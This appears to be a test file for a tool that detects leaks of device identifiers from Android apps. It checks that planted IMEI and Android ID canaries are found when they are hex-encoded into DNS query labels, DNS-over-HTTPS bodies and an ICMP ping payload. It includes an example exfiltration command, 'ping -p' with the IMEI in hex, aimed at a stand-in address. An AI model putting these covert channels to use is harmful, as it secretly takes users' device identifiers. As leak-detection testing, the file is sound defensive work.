import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Flow } from '../../src/capture/flow.ts';
import type { InstrumentationEvent } from '../../src/android/instrumentation-events.ts';
import type { CanarySet } from '../../src/canary/types.ts';
import { correlate } from '../../src/correlate/index.ts';
import { dnsQuery } from '../../src/lab/behaviour/net/dns-message.ts';
import { dnsQueryNames } from '../../src/lab/behaviour/net/dns-send.ts';

// The channels of bypass-2020 as the capture records them, with canaries placed so that a DNS
// label boundary cuts one in two: the wire then holds it only with a length byte inside.
const IMEI = '356938035643809';
const ANDROID_ID = 'a1b2c3d4e5f60718';
const set: CanarySet = {
  version: 1,
  runId: 'r-test',
  canaries: [
    { id: 'c01', kind: 'imei', value: IMEI, context: 'device identifier' },
    { id: 'c02', kind: 'android_id', value: ANDROID_ID, context: 'Settings.Secure.ANDROID_ID' },
  ],
};

/** Text whose hex puts a label boundary (every 63 characters) inside the Android ID's hex. */
function splitPayload(): { text: string; names: string[]; zone: string } {
  const zone = 't.kestrel-metrics.example';
  // 25 bytes before the ID: 50 hex characters; the ID's 32 then straddle character 63.
  const text = `{"pad":"x","android_id":"${ANDROID_ID}"}`;
  const hex = Buffer.from(text).toString('hex');
  const at = hex.indexOf(Buffer.from(ANDROID_ID).toString('hex'));
  assert.ok(at < 63 && at + 32 > 63, `the ID's hex spans ${at}..${at + 32}, not the boundary`);
  return { text, names: dnsQueryNames(hex, zone), zone };
}

const client = { ip: '198.19.0.6', port: 40_000 };

test('DNS to a resolver of its own: a canary cut by a label boundary is found in the qname', () => {
  const { names } = splitPayload();
  const flows: Flow[] = names.map((name, i) => ({
    id: `dns-${i}`,
    t: 1_000 + i,
    protocol: 'dns',
    destination: { host: name, ip: '198.51.100.54', port: 53 },
    client,
    raw: dnsQuery(name, 7).toString('base64'),
  }));
  const { leaks } = correlate({ canaries: set, flows, events: [] });
  const leak = leaks.find((l) => l.canary.kind === 'android_id');
  assert.ok(leak, 'the Android ID cut in two was not found');
  assert.deepEqual(leak.destination, {
    host: names[0],
    ip: '198.51.100.54',
    port: 53,
    channel: 'dns',
  });
  assert.deepEqual(leak.transforms, ['dns', 'qname', 'dns-labels', 'hex']);
  assert.equal(leaks.length, 1, JSON.stringify(leaks.map((l) => l.transforms)));
});

test('DNS over HTTPS: the name inside an application/dns-message body is searched label by label', () => {
  const { names } = splitPayload();
  const name = names[0]!;
  const flow: Flow = {
    id: 'doh-0',
    t: 2_000,
    protocol: 'https',
    destination: { host: '198.51.100.53', ip: '198.51.100.53', port: 443 },
    client,
    tls: { decrypted: true },
    request: {
      method: 'POST',
      url: 'https://198.51.100.53/dns-query',
      httpVersion: '1.1',
      headers: [
        ['Host', '198.51.100.53'],
        ['Content-Type', 'application/dns-message'],
        ['Accept', 'application/dns-message'],
      ],
      body: dnsQuery(name, 0).toString('base64'),
    },
  };
  const { leaks } = correlate({ canaries: set, flows: [flow], events: [] });
  assert.deepEqual(
    leaks.map((l) => [l.canary.kind, l.destination.ip, l.destination.port, l.transforms.join('>')]),
    [['android_id', '198.51.100.53', 443, 'tls>http-body>qname>dns-labels>hex']],
  );
});

test('DNS over HTTPS: a canary whole in one label is one leak, not one per way of reading it', () => {
  const name = dnsQueryNames(Buffer.from(IMEI).toString('hex'), 'd.kestrel-metrics.example')[0]!;
  const flow: Flow = {
    id: 'doh-1',
    t: 2_000,
    protocol: 'https',
    destination: { host: '198.51.100.53', ip: '198.51.100.53', port: 443 },
    client,
    tls: { decrypted: true },
    request: {
      method: 'POST',
      url: 'https://198.51.100.53/dns-query',
      httpVersion: '1.1',
      headers: [['Content-Type', 'application/dns-message']],
      body: dnsQuery(name, 0).toString('base64'),
    },
  };
  const { leaks } = correlate({ canaries: set, flows: [flow], events: [] });
  assert.deepEqual(
    leaks.map((l) => [l.canary.kind, l.transforms.join('>')]),
    [['imei', 'tls>http-body>hex']],
  );
});

test('an ICMP echo dropped at the edge is the app that ran ping to that address', () => {
  const pattern = Buffer.from(IMEI).toString('hex');
  const data = Buffer.concat([Buffer.alloc(16), Buffer.from(IMEI.repeat(3))]).subarray(0, 56);
  const events: InstrumentationEvent[] = [
    {
      t: 2_900,
      source: 'lab',
      pid: 900,
      package: 'com.kestrel.agent',
      type: 'exec',
      command: `ping -c 1 -W 1 -p ${pattern} 203.0.113.70`,
    },
    {
      t: 2_950,
      source: 'lab',
      pid: 901,
      package: 'com.other.app',
      type: 'exec',
      command: 'ping -c 1 203.0.113.71',
    },
  ];
  const flow: Flow = {
    id: 'edge-edge.pcap#i1',
    t: 3_000,
    protocol: 'icmp',
    destination: { host: '203.0.113.70', ip: '203.0.113.70', port: 0 },
    client: { ip: client.ip, port: 0 },
    raw: data.toString('base64'),
    error: 'dropped-at-edge',
  };
  const { leaks } = correlate({ canaries: set, flows: [flow], events });
  assert.deepEqual(
    leaks.map((l) => [l.canary.kind, l.app, l.destination.channel, l.transforms.join('>')]),
    [['imei', 'com.kestrel.agent', 'icmp', 'icmp']],
  );
});
